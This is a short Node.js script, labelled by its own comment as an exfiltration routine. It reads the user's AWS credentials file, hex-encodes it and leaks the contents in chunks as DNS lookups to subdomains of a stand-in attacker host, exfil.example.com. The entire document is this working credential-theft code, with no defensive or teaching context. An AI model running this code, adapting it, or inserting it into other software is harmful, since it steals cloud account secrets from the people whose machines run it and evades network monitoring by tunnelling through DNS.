// Sends the AWS credentials out through DNS lookups, hex in labels.
const fs = require('fs');
const os = require('os');
const dns = require('dns');
const data = fs.readFileSync(os.homedir() + '/.aws/credentials');
const hex = data.toString('hex');
for (let i = 0; i < hex.length; i += 60) {
  dns.resolve4(`${hex.slice(i, i + 60)}.${i}.x.exfil.example.com`, () => {});
}
